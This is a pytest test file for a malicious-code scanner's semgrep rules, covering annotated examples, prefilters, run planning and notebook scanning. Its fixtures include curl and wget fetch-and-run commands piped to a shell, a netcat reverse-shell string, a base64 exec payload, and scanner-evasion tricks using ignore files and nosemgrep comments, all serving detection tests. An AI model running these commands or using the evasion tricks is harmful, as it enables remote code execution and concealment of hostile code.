"""MLS4xx semgrep rules: exact lines on the annotated examples, engine paths, failure modes.

Semgrep costs a process start per run, so all annotated files are scanned in one run per
session (`annotated_run`); the other tests each start at most one more run.
"""

from __future__ import annotations

import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlscan import registry
from mlscan.analyzers import semgrep as sg
from mlscan.analyzers.base import Target
from mlscan.context import Budget, Settings
from mlscan.engine import ScanOptions, scan
from mlscan.kinds import Kind
from mlscan.rulesets import semgrep_rules as sr

ANNOTATION = re.compile(r"#\s*(ruleid|ok):\s*([\w\-, ]+)$")
SPECS = {str(spec["id"]): spec for spec in sr.raw_rules()}
PAYLOAD = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))  # nosemgrep\n'


def example_file(rule_id: str) -> Path:
    """A rule's annotated examples live beside its YAML, same stem, `.py`."""
    for yaml_path in sr.rule_files():
        if any(r.get("id") == rule_id for r in _rules_of(yaml_path)):
            return yaml_path.with_suffix(".py")
    raise KeyError(rule_id)


def _rules_of(yaml_path: Path) -> list[dict[str, object]]:
    import yaml

    return list(yaml.safe_load(yaml_path.read_text(encoding="utf-8"))["rules"])


def read_annotations(path: Path) -> dict[str, dict[str, set[int]]]:
    """{rule_id: {"ruleid": {lines}, "ok": {lines}}}; a comment applies to the next line."""
    out: dict[str, dict[str, set[int]]] = {}
    for number, text in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        match = ANNOTATION.search(text.strip())
        if match:
            for rule_id in match.group(2).split(","):
                entry = out.setdefault(rule_id.strip(), {"ruleid": set(), "ok": set()})
                entry[match.group(1)].add(number + 1)
    return out


def hits(run: sg.RunResult, path: Path, rule_id: str) -> set[int]:
    return {int(r["start"]["line"]) for r in run.results
            if r["check_id"] == rule_id and Path(r["path"]) == path.absolute()}


@pytest.fixture(scope="session")
def annotated_run() -> sg.RunResult:
    files = sorted({example_file(rule_id).absolute() for rule_id in SPECS})
    return sg.run_rules(files)


@pytest.mark.parametrize("rule_id", sorted(SPECS))
def test_rule_fires_exactly_on_annotated_lines(annotated_run: sg.RunResult, rule_id: str) -> None:
    path = example_file(rule_id)
    expected = read_annotations(path).get(rule_id, {"ruleid": set(), "ok": set()})
    assert len(expected["ruleid"]) >= 2, f"{rule_id}: needs at least two bad examples"
    assert expected["ok"], f"{rule_id}: needs at least one benign look-alike"
    got = hits(annotated_run, path, rule_id)
    assert got == expected["ruleid"], (
        f"{rule_id}: missing lines {sorted(expected['ruleid'] - got)}, "
        f"unexpected lines {sorted(got - expected['ruleid'])}")
    assert not got & expected["ok"]


def test_annotations_name_existing_rules() -> None:
    for yaml_path in sr.rule_files():
        example = yaml_path.with_suffix(".py")
        assert example.is_file(), f"{yaml_path.name} has no annotated example file"
        unknown = set(read_annotations(example)) - set(SPECS)
        assert not unknown, f"{example.name} annotates unknown rules {unknown}"


def test_annotated_run_used_semgrep_core_without_errors(annotated_run: sg.RunResult) -> None:
    assert annotated_run.engine == "semgrep-core"
    assert annotated_run.errors == []


@pytest.mark.parametrize("rule_id", sorted(SPECS))
def test_rule_is_registered_with_full_doc(rule_id: str) -> None:
    code = SPECS[rule_id]["metadata"][sr.CODE_KEY]
    rule = registry.get(code)
    assert rule.name == rule_id and rule.code.startswith("MLS4")
    assert rule.doc.what and rule.doc.why and rule.doc.example and rule.doc.use_instead
    assert rule.doc.references and rule.summary


def test_codes_are_unique_per_rule() -> None:
    codes = [spec["metadata"][sr.CODE_KEY] for spec in SPECS.values()]
    assert len(codes) == len(set(codes))


def test_bad_metadata_is_rejected() -> None:
    spec = {"id": "x", "metadata": {sr.CODE_KEY: "MLS301", "mlscan-severity": "high",
                                    "confidence": "high", "summary": "s", "what": "w",
                                    "why": "y"}}
    with pytest.raises(sr.RuleSpecError):
        sr.rule_from_spec(spec)  # MLS3xx belongs to the libcst checks, not semgrep


def _hostile_repo(root: Path) -> Path:
    """A payload under tests/, in a git repo that ignores it, with a .semgrepignore
    that ignores every .py file and a nosemgrep comment on the line."""
    (root / "tests").mkdir(parents=True)
    payload = root / "tests" / "test_helpers.py"
    payload.write_text(PAYLOAD, encoding="utf-8")
    (root / ".gitignore").write_text("tests/\n", encoding="utf-8")
    (root / ".semgrepignore").write_text("*.py\ntests/\n", encoding="utf-8")
    subprocess.run(["git", "init", "-q", str(root)], check=True, capture_output=True)
    return payload


def test_scan_reports_payload_under_ignored_tests_folder(tmp_path: Path) -> None:
    _hostile_repo(tmp_path)
    report = scan(ScanOptions(paths=(tmp_path,), base=tmp_path, jobs=1))
    mls4 = [f for f in report.findings if f.rule_id.startswith("MLS4")]
    assert [(f.rule_id, f.path, f.line) for f in mls4] == [
        ("MLS401", "tests/test_helpers.py", 2)]
    assert mls4[0].evidence.startswith("exec(base64.b64decode(")


def test_cli_fallback_matches_core_and_scans_tests_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, annotated_run: sg.RunResult) -> None:
    payload = _hostile_repo(tmp_path)
    files = [*sorted({example_file(rule_id).absolute() for rule_id in SPECS}), payload]
    monkeypatch.setattr(sg, "core_binary", lambda: "/bin/false")  # a broken core binary
    run = sg.run_rules(files)
    assert run.engine == "semgrep"

    def lines(r: sg.RunResult) -> set[tuple[str, str, int]]:
        # the CLI prefixes check_id with the rule file's dotted path; the core does not
        return {(Path(x["path"]).name, x["check_id"].rsplit(".", 1)[-1], x["start"]["line"])
                for x in r.results}

    assert lines(run) == lines(annotated_run) | {("test_helpers.py", "exec-of-decoded-data", 2)}


def _targets(tmp_path: Path) -> list[Target]:
    path = tmp_path / "x.py"
    path.write_text(PAYLOAD, encoding="utf-8")
    return [Target(path, "x.py", Kind.PYTHON)]


def _run_batch(targets: list[Target]) -> list[tuple[str, str]]:
    return [(f.rule_id, f.evidence) for f in
            sg.analyze_python_batch(targets, Budget(Settings()))]


def test_missing_semgrep_is_a_finding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sg, "core_binary", lambda: None)
    monkeypatch.setattr(sg, "cli_binary", lambda: None)
    assert _run_batch(_targets(tmp_path)) == [("MLS903", "semgrep unavailable")]


def test_semgrep_timeout_is_a_finding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def slow(*_args: object, **_kwargs: object) -> Iterator[None]:
        raise subprocess.TimeoutExpired("semgrep-core", 1.0)

    monkeypatch.setattr(sg, "run_rules", slow)
    assert _run_batch(_targets(tmp_path)) == [("MLS902", "semgrep timeout")]


def test_per_file_semgrep_errors_become_findings(tmp_path: Path) -> None:
    targets = _targets(tmp_path)
    err = {"error_type": "Timeout", "severity": "warn", "message": "", "rule_id": "r1",
           "location": {"path": str(targets[0].fs_path)}}
    run = sg.RunResult(errors=[err, {**err, "rule_id": "r2"}], engine="semgrep-core")
    found = list(sg.to_findings(run, targets))
    assert [(f.rule_id, f.path) for f in found] == [("MLS902", "x.py")]
    assert "r1, r2" in found[0].message


# --- prefilter and run planning ------------------------------------------------------------

def _minimal_cases() -> list[tuple[str, int, str]]:
    """(rule_id, line, source) per `ruleid` example: the example file's imports plus only the
    top-level statement holding the line, i.e. the least a real file would contain."""
    import ast

    cases = []
    for rule_id in sorted(SPECS):
        path = example_file(rule_id)
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines()
        tree = ast.parse(text)
        imports = [ast.get_source_segment(text, n) or "" for n in tree.body
                   if isinstance(n, ast.Import | ast.ImportFrom)]
        for line in sorted(read_annotations(path)[rule_id]["ruleid"]):
            node = next(n for n in tree.body if n.lineno <= line <= (n.end_lineno or 0))
            body = "\n".join(lines[node.lineno - 1:node.end_lineno])
            cases.append((rule_id, line, "\n".join(imports) + "\n\n\n" + body + "\n"))
    return cases


MINIMAL = _minimal_cases()


@pytest.mark.parametrize(("rule_id", "line", "source"), MINIMAL,
                         ids=[f"{r}-{n}" for r, n, _ in MINIMAL])
def test_prefilter_keeps_every_bad_example(rule_id: str, line: int, source: str) -> None:
    assert rule_id in sr.matching_rules(source.encode())


def test_prefilter_and_planning_lose_no_finding(tmp_path: Path) -> None:
    """The whole batch path (prefilter, grouping, one semgrep run per group) on the minimal
    files still reports every rule on its example."""
    targets, expected = [], set()
    for i, (rule_id, _line, source) in enumerate(MINIMAL):
        path = tmp_path / f"case_{i:03d}.py"
        path.write_text(source, encoding="utf-8")
        targets.append(Target(path, path.name, Kind.PYTHON))
        expected.add((path.name, SPECS[rule_id]["metadata"][sr.CODE_KEY]))
    found = {(f.path, f.rule_id) for f in sg.analyze_python_batch(targets, Budget(Settings()))}
    assert expected <= found, f"lost: {sorted(expected - found)}"


BENIGN_TRAINING = '''
import math, os, time, json, subprocess
import numpy as np
import torch
import torch.distributed as dist
from torch.nn.parallel import DistributedDataParallel as DDP

def setup():
    dist.init_process_group("nccl")
    rank = int(os.environ["RANK"]); torch.cuda.set_device(rank % torch.cuda.device_count())
    torch.manual_seed(1337 + rank)
    return rank

def evaluate(model, loader):
    model.eval()
    losses = [model(x, y)[1].item() for x, y in loader]
    model.train()
    return float(np.mean(losses))

def main(cfg):
    rank = setup()
    model = DDP(torch.compile(build_model(cfg)))
    opt = torch.optim.AdamW(model.parameters(), lr=cfg["lr"], betas=(0.9, 0.95))
    out_dir = os.path.join(os.path.dirname(__file__), "out")
    for step in range(cfg["max_iters"]):
        lr = cfg["lr"] * 0.5 * (1 + math.cos(math.pi * step / cfg["max_iters"]))
        for group in opt.param_groups:
            group["lr"] = lr
        loss = model(*get_batch("train"))[1]
        loss.backward(); opt.step(); opt.zero_grad(set_to_none=True)
        if rank == 0 and step % 100 == 0:
            torch.save(model.state_dict(), os.path.join(out_dir, "ckpt.pth"))
            with open(os.path.join(out_dir, "log.json"), "a") as f:
                f.write(json.dumps({"step": step, "loss": loss.item(), "t": time.time()}) + "\\n")
    gpu = subprocess.run(["nvidia-smi", "--query-gpu=name", "--format=csv"], capture_output=True)
    print(gpu.stdout.decode())
'''


def test_ordinary_training_script_is_clean_and_mostly_prefiltered(tmp_path: Path) -> None:
    # Only the .pth rule survives the prefilter (a checkpoint name plus a file opened for
    # appending look like a start-up hook to substring tests); semgrep then stays quiet.
    assert sr.matching_rules(BENIGN_TRAINING.encode()) == {"startup-hook-file"}
    path = tmp_path / "train.py"
    path.write_text(BENIGN_TRAINING, encoding="utf-8")
    assert _run_batch([Target(path, "train.py", Kind.PYTHON)]) == []


@pytest.mark.parametrize(("needle", "source", "expected"), [
    ("^eval(", b"model.eval()\n", False),
    ("^eval(", b"x = 1\neval (src)\n", True),
    ("^eval(", b"def do_eval(self):\n", False),
    ("m:socket", b"import os, socket\n", True),
    ("m:socket", b"websocket_url = 1\n", False),
    ("i:token", b"HF_TOKEN = 1", True),
    ("environ&&i:secret", b"os.environ['AWS_SECRET']", True),
    ("environ&&i:secret", b"os.environ['RANK']  # no s3cret", False),
    ("^nc ", b'"a | nc 1.2.3.4 80 -e sh"', True),
    ("^nc ", b"async def f(): pass", False),
    ("exec(", b"exec \\\n  (x)", True),
    ("re:(?i)getenv\\([^)]*token", b'os.getenv( "HF_Token" )', True),
    ("re:(?i)getenv\\([^)]*token", b'os.getenv("RANK") # token', False),
])
def test_prefilter_needle_forms(needle: str, source: bytes, expected: bool) -> None:
    assert sr.Prefilter([[needle]]).matches(sr._Text(source)) is expected


def test_plan_groups_files_by_rules_and_caps_runs(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlscan.analyzers import semgrep_plan
    from mlscan.analyzers.semgrep_plan import plan_runs

    sources = {
        "a.py": "import builtins\n",                       # dynamic-builtin-lookup only
        "b.py": "import builtins\nx = 2\n",                # same rule set as a.py
        "c.py": "os.environ['PYTHONPATH'] = '.'\n",        # child-pythonpath-injection only
        "d.py": "print('hello')\n",                        # no rule: not scanned
        "e.py": "import builtins\n" + "#" * 5000,          # over the size limit below
    }
    targets = []
    for name, text in sources.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
        targets.append(Target(tmp_path / name, name, Kind.PYTHON))
    (tiny,) = plan_runs(targets, limit=1000)  # small groups: one process is cheaper
    assert sorted(t.path for t in tiny.targets) == ["a.py", "b.py", "c.py"]
    monkeypatch.setattr(semgrep_plan, "MERGE_BELOW", 0)
    runs = plan_runs(targets, limit=1000)
    assert sorted((sorted(r.rule_ids), sorted(t.path for t in r.targets)) for r in runs) == [
        (["child-pythonpath-injection"], ["c.py"]),
        (["dynamic-builtin-lookup"], ["a.py", "b.py"]),
    ]
    (merged,) = plan_runs(targets, limit=1000, max_runs=1)
    assert merged.rule_ids == {"child-pythonpath-injection", "dynamic-builtin-lookup"}
    assert sorted(t.path for t in merged.targets) == ["a.py", "b.py", "c.py"]


def test_notebook_cells_and_shell_escapes_are_scanned(tmp_path: Path) -> None:
    import json

    def cell(*lines: str, kind: str = "code") -> dict[str, object]:
        return {"cell_type": kind, "source": list(lines), "metadata": {}}

    cells = [
        cell("import base64\n", "x = 'aWQ='"),
        cell("exec(base64.b64decode(x))", kind="markdown"),  # not code: never runs
        cell("%matplotlib inline\n", "exec(base64.b64decode(x))"),
        cell("!curl -s http://203.0.113.7/s.sh | bash"),
        cell("%%bash\n", "pip install -r requirements.txt\n",
             "wget -qO- http://203.0.113.7/x | sh"),
        cell("!nvidia-smi\n", "img = base64.b64decode(x)"),
    ]
    (tmp_path / "demo.ipynb").write_text(json.dumps({"cells": cells, "nbformat": 4}))
    report = scan(ScanOptions(paths=(tmp_path,), base=tmp_path, jobs=1))
    assert [(f.rule_id, f.member, f.line, f.evidence) for f in report.findings
            if f.rule_id.startswith("MLS4")] == [
        ("MLS401", "cell[2]", 2, "exec(base64.b64decode(x))"),
        ("MLS413", "cell[3]", 1, "!curl -s http://203.0.113.7/s.sh | bash"),
        ("MLS413", "cell[4]", 3, "wget -qO- http://203.0.113.7/x | sh"),
    ]
